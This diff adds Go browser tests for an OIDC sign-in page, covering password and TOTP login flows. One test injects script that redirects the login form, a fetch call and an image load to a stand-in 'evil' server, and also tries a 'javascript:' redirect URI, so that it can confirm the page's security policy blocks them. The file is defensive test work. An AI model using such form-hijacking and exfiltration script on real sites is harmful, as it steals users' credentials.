@@ -1,0 +1,217 @@
+package passkey
+
+import (
+	"context"
+	"fmt"
+	"html"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+	"github.com/coreos/go-oidc/v3/oidc"
+	"github.com/pquerna/otp"
+	"github.com/pquerna/otp/totp"
+	"golang.org/x/oauth2"
+)
+
+// Of the page at which people sign in.
+const (
+	name     = chromedp.ID("name")
+	password = chromedp.ID("password")
+	enter    = chromedp.ID("enter")
+	passcode = chromedp.CSS("#codes input")
+	prove    = chromedp.ID("prove")
+	problem  = chromedp.CSS("#problem:not(:empty)")
+	greeting = chromedp.CSS("#greeting") // the application's
+)
+
+// application is a relying party as others write it, which greets whom it knows by their subject.
+type application struct {
+	*httptest.Server
+	t        *testing.T
+	login    oauth2.Config
+	ids      *oidc.IDTokenVerifier
+	verifier string
+	state    string
+}
+
+// newApplication is an application that the server knows.
+func (s *stand) newApplication() *application {
+	s.t.Helper()
+	a := &application{t: s.t, verifier: oauth2.GenerateVerifier(), state: "a state & more"}
+	a.Server = httptest.NewServer(a)
+	s.t.Cleanup(a.Close)
+	back := a.URL + "/back?of=app"
+	s.run("root", "write", "identity/oidc/client/app", "redirect_uris="+back, "assignments=allow_all", "client_type=public")
+	s.run("root", "write", "identity/oidc/provider/people", "issuer="+s.url, "allowed_client_ids=*")
+	id := strings.TrimSpace(s.run("root", "read", "-field=client_id", "identity/oidc/client/app"))
+	provider, err := oidc.NewProvider(s.t.Context(), s.url+"/v1/identity/oidc/provider/people")
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	a.login = oauth2.Config{ClientID: id, Endpoint: provider.Endpoint(), RedirectURL: back, Scopes: []string{oidc.ScopeOpenID}}
+	a.ids = provider.Verifier(&oidc.Config{ClientID: id})
+	return a
+}
+
+// ServeHTTP implements http.Handler: at first it sends people to the provider, who then come back.
+func (a *application) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	q := r.URL.Query()
+	if r.URL.Path != "/back" {
+		http.Redirect(w, r, a.login.AuthCodeURL(a.state, oidc.Nonce("a nonce"), oauth2.S256ChallengeOption(a.verifier)), http.StatusFound)
+		return
+	}
+	who, err := a.known(r.Context(), q)
+	if r.Referer() != "" {
+		err = fmt.Errorf("the browser tells that it comes from %s", r.Referer())
+	}
+	if err != nil {
+		who = html.EscapeString(err.Error())
+	}
+	fmt.Fprintf(w, "<p id=greeting>%s</p>", who)
+}
+
+// known is the subject of who has come back.
+func (a *application) known(ctx context.Context, q url.Values) (string, error) {
+	if q.Get("state") != a.state || q.Get("of") != "app" {
+		return "", fmt.Errorf("came back with %v", q)
+	}
+	got, err := a.login.Exchange(ctx, q.Get("code"), oauth2.VerifierOption(a.verifier))
+	if err != nil {
+		return "", err
+	}
+	raw, _ := got.Extra("id_token").(string)
+	id, err := a.ids.Verify(ctx, raw)
+	if err != nil || id.Nonce != "a nonce" {
+		return "", fmt.Errorf("nonce %v, %w", id, err)
+	}
+	return id.Subject, nil
+}
+
+// do takes steps, in bounded time.
+func do(t *testing.T, tab context.Context, steps ...chromedp.Action[chromedp.Void]) {
+	t.Helper()
+	bounded, cancel := context.WithTimeout(tab, patience)
+	defer cancel()
+	if err := chromedp.Do(bounded, steps...); err != nil {
+		page, _ := chromedp.Run(tab, chromedp.Evaluate[string]("location.href + ': ' + document.body.innerText")) //nolint:errcheck // for the message alone
+		t.Fatalf("%v: at %s", err, page)
+	}
+}
+
+// signIn opens an address and fills in the form.
+func signIn(t *testing.T, tab context.Context, at, secret string) {
+	t.Helper()
+	do(t, tab, chromedp.Navigate(at), chromedp.WaitVisible(name), chromedp.SendKeys(name, "ann"), chromedp.SendKeys(password, secret), chromedp.Click(enter))
+}
+
+// reads waits for an element and answers its text.
+func reads(t *testing.T, tab context.Context, what chromedp.CSS) string {
+	t.Helper()
+	do(t, tab, chromedp.WaitVisible(what))
+	text, err := chromedp.Run(tab, chromedp.Text(what))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return text
+}
+
+// accessors are how many tokens there are.
+func (s *stand) accessors() int {
+	s.t.Helper()
+	return strings.Count(s.run("root", "list", "-format=json", "auth/token/accessors"), "\n")
+}
+
+// Somebody signs in to an application with a password, in a browser. Their token is gone then, and those that they
+// have elsewhere are not, though their logins share one.
+func TestSignsInByPassword(t *testing.T) {
+	s := newServer(t)
+	s.run("root", "write", "auth/userpass/users/ann", "token_reuse=true")
+	app, tab := s.newApplication(), newTab(t)
+	elsewhere := strings.TrimSpace(s.run("", "login", "-token-only", "-method=userpass", "username=ann", "password=hunter2"))
+	before := s.accessors()
+	signIn(t, tab, app.URL, "wrong")
+	if text := reads(t, tab, problem); !strings.Contains(text, "It has not worked") {
+		t.Errorf("with a wrong password the page says %q", text)
+	}
+	signIn(t, tab, app.URL, "hunter2")
+	if text := reads(t, tab, greeting); text != s.entity {
+		t.Errorf("the application greets %q, want %s", text, s.entity)
+	}
+	if after := s.accessors(); after != before {
+		t.Errorf("%d tokens before and %d after", before, after)
+	}
+	s.run(elsewhere, "token", "lookup")
+}
+
+// Somebody signs in with a passcode too.
+func TestSignsInByPasscode(t *testing.T) {
+	s := newServer(t)
+	method := strings.TrimSpace(s.run("root", "write", "-field=method_id", "identity/mfa/method/totp", "issuer=Acme", "method_name=app"))
+	key, err := otp.NewKeyFromURL(strings.TrimSpace(s.run("root", "write", "-field=url", "identity/mfa/method/totp/admin-generate", "method_id="+method, "entity_id="+s.entity)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.run("root", "write", "identity/mfa/login-enforcement/people", "mfa_method_ids="+method, "auth_method_types=userpass")
+	app, tab := s.newApplication(), newTab(t)
+	before := s.accessors()
+	signIn(t, tab, app.URL, "hunter2")
+	do(t, tab, chromedp.WaitVisible(passcode), chromedp.SendKeys(passcode, "none"), chromedp.Click(prove))
+	if text := reads(t, tab, problem); !strings.Contains(text, "It has not worked") {
+		t.Errorf("with a wrong passcode the page says %q", text)
+	}
+	code, err := totp.GenerateCode(key.Secret(), time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	do(t, tab, chromedp.SendKeys(passcode, code), chromedp.Click(prove))
+	if text := reads(t, tab, greeting); text != s.entity {
+		t.Errorf("the application greets %q, want %s", text, s.entity)
+	}
+	if after := s.accessors(); after != before {
+		t.Errorf("%d tokens before and %d after", before, after)
+	}
+}
+
+// The page sends nobody where the client has no address, runs nothing that stands in its own, and asks nobody but its server.
+func TestSignInPageIsConfined(t *testing.T) {
+	s := newServer(t)
+	app, tab := s.newApplication(), newTab(t)
+	other := make(chan string, 8)
+	evil := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { other <- r.URL.Path }))
+	t.Cleanup(evil.Close)
+	asks := func(redirect, more string) string {
+		login := app.login
+		login.RedirectURL = redirect
+		return login.AuthCodeURL("s", oauth2.S256ChallengeOption(app.verifier)) + more
+	}
+	signIn(t, tab, asks(evil.URL+"/back?of=app", ""), "hunter2")
+	if text := reads(t, tab, problem); !strings.Contains(text, "redirect_uri is not allowed") {
+		t.Errorf("for an address of somebody else the page says %q", text)
+	}
+	violations, err := chromedp.Run(tab, chromedp.Evaluate[int](`new Promise(done => { let n = 0; addEventListener("securitypolicyviolation", () => ++n == 4 && done(n));
+		const form = document.getElementById("login"); form.action = "`+evil.URL+`/form"; HTMLFormElement.prototype.submit.call(form);
+		fetch("`+evil.URL+`/fetch").catch(() => {}); new Image().src = "`+evil.URL+`/image";
+		try { document.body.innerHTML = "<b>x</b>"; } catch (e) {} })`, chromedp.EvalAwaitPromise))
+	if err != nil || violations != 4 {
+		t.Errorf("%d violations of the page's policy, %v", violations, err)
+	}
+	for _, at := range []string{asks("javascript:document.title='run'//", ""), asks(app.login.RedirectURL, "&state=s"), asks("", ""),
+		asks(app.login.RedirectURL, "&prompt=none"), asks(app.login.RedirectURL, "&request=x"), asks(app.login.RedirectURL, "&response_mode=form_post")} {
+		do(t, tab, chromedp.Navigate(at))
+		text := reads(t, tab, "#text")
+		offered, err := chromedp.Run(tab, chromedp.Evaluate[bool](`!document.getElementById("login").hidden || document.title == "run"`))
+		if err != nil || offered || !strings.Contains(text, "This cannot be answered") {
+			t.Errorf("%s: the page says %q and goes on: %v, %v", at, text, offered, err)
+		}
+	}
+	select {
+	case path := <-other:
+		t.Errorf("the page has asked elsewhere for %s", path)
+	default:
+	}
+}
